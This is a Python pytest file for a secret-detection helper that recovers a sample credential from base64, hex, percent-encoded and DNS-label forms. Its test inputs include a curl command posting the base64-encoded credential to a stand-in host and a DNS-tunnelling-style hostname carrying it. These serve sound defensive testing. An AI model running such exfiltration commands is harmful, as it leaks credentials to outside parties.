import base64

import pytest

from security_hooks.memory.secret_forms import forms

TEXT = b"user:correct-Horse9+Battery/staple"


def base64ed(prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    return base64.b64encode(prefix + TEXT + suffix)


LABELS = base64.urlsafe_b64encode(TEXT).rstrip(b"=")


@pytest.mark.parametrize(
    "text",
    [
        TEXT,
        b"curl -d " + base64ed() + b" e.example",
        base64ed(b"a"),
        base64ed(b"ab", b"\n"),
        base64ed(b"", b"\n"),
        b"\n".join(base64ed()[at : at + 12] for at in range(0, 48, 12)),
        b'"' + base64ed()[:20] + b'" + "' + base64ed()[20:] + b'"',
        b".".join(LABELS[at : at + 9] for at in range(0, len(LABELS), 9)) + b".e.example",
        TEXT.hex().encode(),
        TEXT.hex().upper().encode(),
        TEXT.hex(":").encode(),
        b"".join(b"\\x%02x" % byte for byte in TEXT),
        b", ".join(b"0x%02X" % byte for byte in TEXT),
        b"".join(b"%%%02x" % byte for byte in TEXT),
        base64.b64encode(TEXT.hex().encode()),
        base64.b64encode(base64.b64encode(base64ed())),
    ],
)
def test_what_is_encoded_comes_out(text: bytes) -> None:
    assert any(TEXT in form for form in forms(text))


@pytest.mark.parametrize(
    "text", [b"", b"git show 3f2a9c1b7d8e4f60a1b2c3d4e5f60718293a4b5c", b"npm run build --mode=production"]
)
def test_what_encodes_nothing_is_the_text_alone(text: bytes) -> None:
    assert list(forms(text)) == [text]


def test_the_work_is_bounded() -> None:
    text = base64ed() * 20_000
    assert sum(map(len, forms(text))) <= 4 * len(text)
    many = b" ! ".join([TEXT.hex().encode()] * 1_000)
    assert len(list(forms(many))) <= 70
